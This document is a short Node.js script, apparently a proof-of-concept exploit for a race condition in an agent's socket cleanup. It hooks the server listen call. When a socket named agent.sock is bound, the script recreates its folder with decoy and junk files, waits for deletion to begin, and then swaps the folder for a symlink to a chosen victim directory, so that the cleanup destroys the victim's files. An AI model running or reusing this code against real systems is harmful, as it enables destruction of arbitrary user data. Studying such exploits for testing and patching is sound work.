// Has the folder of the agent's socket removed while a link to the folder <victim> takes its place.
const fs = require('node:fs');
const net = require('node:net');
const path = require('node:path');

const [victim, tmp] = process.argv.slice(2);
const JUNK = 3000;
const { listen } = net.Server.prototype;

net.Server.prototype.listen = function (options, ...rest) {
  const file = options?.path;
  if (typeof file === 'string' && path.basename(file) === 'agent.sock')
    this.once('connection', (socket) => setImmediate(attack, path.dirname(file), socket));
  return listen.call(this, options, ...rest);
};

function attack(folder, socket) {
  // The agent has removed its own by now.
  fs.mkdirSync(folder);
  for (const name of ['agent.sock', ...fs.readdirSync(victim)]) fs.writeFileSync(path.join(folder, name), '');
  for (let at = 0; at < JUNK; at++) fs.writeFileSync(path.join(folder, `junk-${at}`), '');
  const watcher = fs.watch(folder, () => {
    watcher.close();
    fs.renameSync(folder, path.join(tmp, 'aside'));
    fs.symlinkSync(victim, folder);
    console.log('swapped');
  });
  console.log('attached');
  socket.destroy();
}

setInterval(() => {}, 1000);
console.log('ready');
